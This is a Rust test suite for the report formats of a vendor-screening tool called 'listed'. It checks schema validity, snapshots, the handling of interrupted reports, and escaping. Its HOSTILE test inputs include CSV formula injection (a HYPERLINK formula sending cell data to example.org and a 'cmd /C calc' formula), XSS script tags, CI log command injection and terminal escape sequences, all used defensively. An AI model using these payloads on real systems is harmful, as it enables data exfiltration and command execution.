//! What each format promises beside its golden: that it keeps to its standard, that a report cut short cannot pass for
//! a whole one, and that no text of a list or a vendor file can act.

use listed::report::{DecisionsMeta, Format, InputMeta, Meta, Paint, Summary};
use listed::screen::{Decision, DecisionState, Hit, Query, Screening, Verdict};
use serde_json::Value;

use crate::reports::{
    answer, assert_valid, meta, mixed, render, render_ended, render_with, settings, strong,
};

/// The header of a report on a file.
fn of_file() -> Meta {
    Meta {
        input: Some(InputMeta {
            name: "in put/vendors.csv".into(),
            read_as: "CSV, delimiter \",\", UTF-8".into(),
            columns: vec!["Vendor".into(), "Verdict".into()],
            name_column: "Vendor".into(),
            country_column: None,
            address_column: None,
            id_column: None,
        }),
        decisions: Some(DecisionsMeta {
            file: "decisions.csv".into(),
            sha256: "ef".repeat(32),
            decisions: 1,
        }),
        ..meta()
    }
}

/// The mixed report as a file makes it.
fn rows() -> Vec<Screening> {
    let mut rows = mixed();
    for row in &mut rows {
        row.query.line = Some(row.query.row + 1);
        row.query.cells = vec![row.query.name.clone(), "kept".into()];
    }
    rows
}

fn of(format: Format, rows: &[Screening]) -> String {
    render_with(&of_file(), format, rows, Paint::Plain)
}

fn csv_rows(text: &str) -> Vec<csv::StringRecord> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(Result::unwrap)
        .collect()
}

#[test]
fn goldens_of_reports_on_a_file() {
    settings().bind(|| {
        for name in ["text", "csv", "sarif", "html"] {
            let format: Format = name.parse().unwrap();
            insta::assert_snapshot!(format!("file.{name}"), of(format, &rows()));
        }
    });
}

#[test]
fn every_format_names_the_same_findings_of_a_file_and_what_it_rests_on() {
    let ids: Vec<String> =
        rows().iter().flat_map(|r| &r.hits).map(|h| h.entity_id.as_str().to_owned()).collect();
    for (name, format) in Format::ALL {
        let report = of(*format, &rows());
        for id in &ids {
            assert!(report.contains(id.as_str()), "{name}: no {id}");
        }
        for part in ["us-bis-el", "us-889", "0.0.0", "default", "cdcdcdcdcdcd", "abababababab"] {
            assert!(report.contains(part), "{name}: no {part}");
        }
        assert!(report.contains("2019-10-09") || report.contains("9 October 2019"), "{name}: no list date");
    }
}

#[test]
fn sarif_keeps_to_its_schema() {
    // One pattern of the official schema is no regular expression to a strict reader: a bracket too many.
    let schema = include_str!("../data/schema/sarif-2.1.0.json").replace("[a-zA-Z]{2}]?$", "[a-zA-Z]{2}?$");
    let schema: Value = serde_json::from_str(&schema).unwrap();
    let validator = jsonschema::validator_for(&schema).unwrap();
    for report in [
        of(Format::Sarif, &rows()),
        of(Format::Sarif, &[]),
        of(Format::Sarif, &hostile()),
        render(Format::Sarif, &mixed(), Paint::Plain),
        interrupted(Format::Sarif),
    ] {
        let value: Value = serde_json::from_str(&report).unwrap();
        let faults: Vec<String> =
            validator.iter_errors(&value).map(|e| format!("{}: {e}", e.instance_path())).collect();
        assert!(faults.is_empty(), "{}", faults.join("\n"));
        let mut wrong = value.clone();
        wrong["runs"][0]["invocations"][0]["executionSuccessful"] = "perhaps".into();
        assert!(!validator.is_valid(&wrong), "the schema must refuse what is not SARIF");
        // Every result has its rule, and the other way round.
        let run = &value["runs"][0];
        let ids = |list: &Value, key: &str| {
            let mut ids: Vec<String> =
                list.as_array().unwrap().iter().map(|r| r[key].as_str().unwrap().to_owned()).collect();
            ids.sort();
            ids.dedup();
            ids
        };
        assert_eq!(ids(&run["results"], "ruleId"), ids(&run["tool"]["driver"]["rules"], "id"));
    }
}

/// A report that Ctrl-C ended behind its second answer.
fn interrupted(format: Format) -> String {
    let summary = Summary { interrupted: true, exit_status: 130, ..Summary::default() };
    render_ended(&of_file(), format, &rows()[..2], Paint::Plain, summary)
}

#[test]
fn an_interrupted_report_is_valid_and_says_that_it_is_not_all() {
    settings().bind(|| {
        for (name, format) in Format::ALL {
            let report = interrupted(*format);
            assert!(report.contains("interrupted"), "{name}");
            assert!(report.contains("130") || ["text", "csv"].contains(name), "{name}");
            insta::assert_snapshot!(format!("interrupted.{name}"), report);
        }
    });
    assert_valid("document", &serde_json::from_str(&interrupted(Format::Json)).unwrap());
    for line in interrupted(Format::Jsonl).lines() {
        assert_valid("line", &serde_json::from_str(line).unwrap());
    }
    let rows = csv_rows(&interrupted(Format::Csv));
    let last = rows.last().unwrap();
    assert_eq!((&last[0], &last[2]), ("", "error"), "no answer to anybody");
    assert!(!interrupted(Format::Html).contains("#cut{display:none}"), "the page's own warning stays");
}

#[test]
fn sarif_fingerprints_outlive_lines_scores_and_ways_of_writing_the_report() {
    let prints = |rows: &[Screening]| -> Vec<String> {
        let value: Value = serde_json::from_str(&of(Format::Sarif, rows)).unwrap();
        let results = value["runs"][0]["results"].as_array().unwrap();
        results.iter().map(|r| r["partialFingerprints"]["listed/v1"].as_str().unwrap().to_owned()).collect()
    };
    let mut moved = rows();
    for row in &mut moved {
        row.query.row += 40;
        row.query.line = Some(row.query.row * 2);
        row.hits.iter_mut().for_each(|h| h.score -= 0.01);
    }
    assert_eq!(prints(&rows()), prints(&moved));
    let mut all = prints(&rows());
    let count = all.len();
    all.sort();
    all.dedup();
    assert_eq!(all.len(), count, "each finding has its own");
    let value: Value = serde_json::from_str(&of(Format::Sarif, &rows())).unwrap();
    let results = value["runs"][0]["results"].as_array().unwrap();
    assert_eq!(
        results[0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "in%20put/vendors.csv"
    );
    assert_eq!(results[0]["locations"][0]["physicalLocation"]["region"]["startLine"], 2);
    let suppressed = results.iter().filter(|r| r.get("suppressions").is_some()).count();
    assert_eq!(suppressed, 1, "the cleared hit is there, and marked");
}

#[test]
fn csv_keeps_the_inputs_columns_and_gives_way_to_them() {
    let records = csv_rows(&of(Format::Csv, &rows()));
    let header: Vec<&str> = records[0].iter().collect();
    assert_eq!(header[..4], ["Vendor", "Verdict", "listed_verdict", "score"]);
    let hits: usize = rows().iter().map(|r| r.hits.len().max(1)).sum();
    assert_eq!(records.len(), hits + 1, "a row a hit, and one for each answer without");
    for record in &records[1..] {
        assert_eq!(record.len(), header.len());
        assert_eq!(&record[1], "kept");
    }
}

#[test]
fn junit_is_xml_that_counts_what_it_holds() {
    let count = |report: &str, tag: &[u8]| {
        let mut reader = quick_xml::Reader::from_str(report);
        let mut n = 0;
        loop {
            match reader.read_event().unwrap() {
                quick_xml::events::Event::Eof => return n,
                quick_xml::events::Event::Start(e) | quick_xml::events::Event::Empty(e)
                    if e.name().as_ref() == tag =>
                {
                    n += 1;
                }
                _ => {}
            }
        }
    };
    let report = of(Format::Junit, &rows());
    let hits: Vec<Verdict> = rows().iter().flat_map(|r| &r.hits).map(|h| h.verdict).collect();
    let cleared = hits.iter().filter(|v| **v == Verdict::Cleared).count();
    assert_eq!(count(&report, b"failure"), hits.len() - cleared);
    assert_eq!(count(&report, b"skipped"), cleared);
    assert_eq!(count(&report, b"error"), 1);
    let clear = of(Format::Junit, &[answer(1, "Acme", Verdict::Clear, vec![])]);
    assert_eq!((count(&clear, b"testcase"), count(&clear, b"failure"), count(&clear, b"error")), (1, 0, 0));
    let empty = of(Format::Junit, &[]);
    assert_eq!((count(&empty, b"testcase"), count(&empty, b"error")), (1, 1), "nothing to screen is no pass");
}

#[test]
fn a_report_cut_short_cannot_pass_for_a_whole_one() {
    for format in [Format::Json, Format::Sarif] {
        let whole = of(format, &rows());
        for end in (0..whole.trim_end().len()).filter(|&e| whole.is_char_boundary(e)).step_by(7) {
            assert!(serde_json::from_str::<Value>(&whole[..end]).is_err(), "{end}");
        }
    }
    let page = of(Format::Html, &rows());
    let warning = page.find("<p id=\"cut\">").unwrap();
    let end = page.find("#cut{display:none}").unwrap();
    assert!(warning < 16_000 && end > page.len() - 80, "the warning first, what takes it away last");
    assert!(!of(Format::Jsonl, &rows()).lines().rev().nth(1).unwrap().contains("summary\":{\"queries"));
}

#[test]
fn the_page_loads_nothing_and_reads_without_its_script() {
    let page = of(Format::Html, &rows());
    for part in ["src=", "@import", "url(", "<link", "<img", "<iframe", "javascript:", "onclick", "onload"] {
        assert!(!page.contains(part), "{part}");
    }
    assert_eq!(page.matches("<script").count(), 1);
    assert!(page.contains("default-src 'none'"));
    for id in rows().iter().flat_map(|r| &r.hits).map(|h| h.entity_id.as_str().to_owned()) {
        assert!(page.split("<script>").next().unwrap().contains(&id), "{id} is in the page itself");
    }
    assert!(page.contains("Acme Bakery"), "the clear names too");
}

/// Texts that want to be more than text.
const HOSTILE: [&str; 8] = [
    "\u{1b}[2J\u{1b}]0;gone\u{7}Acme",
    "=HYPERLINK(\"https://example.org/?\"&A1,\"click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "::error file=a.csv::gone\r\n::set-output name=x::y",
    "##vso[task.complete result=Succeeded;]done ##[error]x",
    "Acme \u{202e}dtL gnidarT\u{202c}\u{2066}\u{200f}",
    "nul\0nul ]]> <!-- & \u{fffe}\u{ffff}",
];

fn hostile() -> Vec<Screening> {
    let mut rows = Vec::new();
    for (text, row) in HOSTILE.iter().zip(1..) {
        let text = (*text).to_owned();
        let mut hit = Hit {
            listed_name: text.clone(),
            matched_name: text.clone(),
            matched_name_source: Some(text.clone()),
            decision: Some(Decision {
                verdict: "true-match".into(),
                reason: text.clone(),
                by: text.clone(),
                made_on: None,
                until: None,
                state: DecisionState::Expired,
            }),
            ..strong()
        };
        hit.why.reason = Some(text.clone());
        hit.why.list_name.clone_from(&text);
        hit.why.citations = vec![text.clone()];
        hit.why.rule_url = Some(text.clone());
        hit.why.licence_requirement = Some(text.clone());
        let mut found = answer(row, &text, Verdict::Match, vec![hit]);
        found.query.id = Some(text.clone());
        found.query.cells = vec![text.clone(), text.clone()];
        let mut failed = Screening::failed(Query::name(&text).row(row + 100), text.clone());
        failed.query.cells = vec![text.clone(), text];
        rows.extend([found, failed]);
    }
    let big = "M".repeat(1 << 20);
    let mut row = Screening::failed(Query::name(&big).row(999), "too long");
    row.query.cells = vec![big.clone(), big];
    rows.push(row);
    rows
}

#[test]
fn hostile_text_is_only_text_in_every_format() {
    for (name, format) in Format::ALL {
        let report = of(*format, &hostile());
        let bad: Vec<char> = report.chars().filter(|c| c.is_control() && !matches!(c, '\n' | '\r')).collect();
        assert!(bad.is_empty(), "{name}: control characters {bad:?}");
        assert!(!report.contains(['\u{202e}', '\u{2066}', '\u{200f}']), "{name}: turns the writing round");
        for line in report.lines() {
            assert!(
                !line.trim_start().starts_with("::"),
                "{name}: a build log takes this for a command: {line}"
            );
        }
        assert!(!report.contains("##vso[") && !report.contains("##["), "{name}: a command of a build log");
    }
}

#[test]
fn hostile_text_in_csv_is_no_formula() {
    for record in csv_rows(&of(Format::Csv, &hostile())) {
        for cell in &record {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']), "{cell:?}");
            assert!(!cell.contains(['\n', '\r', '\0', '\u{1b}']), "{cell:?}");
        }
    }
}

#[test]
fn hostile_text_in_html_is_no_markup() {
    let page = of(Format::Html, &hostile());
    assert_eq!(page.matches("<script").count(), 1);
    assert!(!page.contains("<img") && !page.contains("onerror=alert(1)>"));
    assert!(page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert!(!page.contains("href=\"=HYPER") && !page.contains("href=\"&lt;"), "only web addresses are links");
    assert!(page.len() < 2 << 20, "a megabyte of a name is not shown whole");
}

#[test]
fn hostile_text_in_junit_is_xml_all_the_same() {
    let report = of(Format::Junit, &hostile());
    let mut reader = quick_xml::Reader::from_str(&report);
    loop {
        match reader.read_event().unwrap() {
            quick_xml::events::Event::Eof => break,
            quick_xml::events::Event::Text(t) => drop(t.decode().unwrap()),
            _ => {}
        }
    }
    assert!(!report.contains(['\0', '\u{fffe}', '\u{ffff}']));
}

#[test]
fn hostile_text_in_json_comes_back_as_it_was() {
    for format in [Format::Json, Format::Sarif] {
        serde_json::from_str::<Value>(&of(format, &hostile())).unwrap();
    }
    let value: Value = serde_json::from_str(&of(Format::Json, &hostile())).unwrap();
    for (text, at) in HOSTILE.iter().zip((0..).step_by(2)) {
        assert_eq!(value["results"][at]["query"]["name"], *text);
    }
}
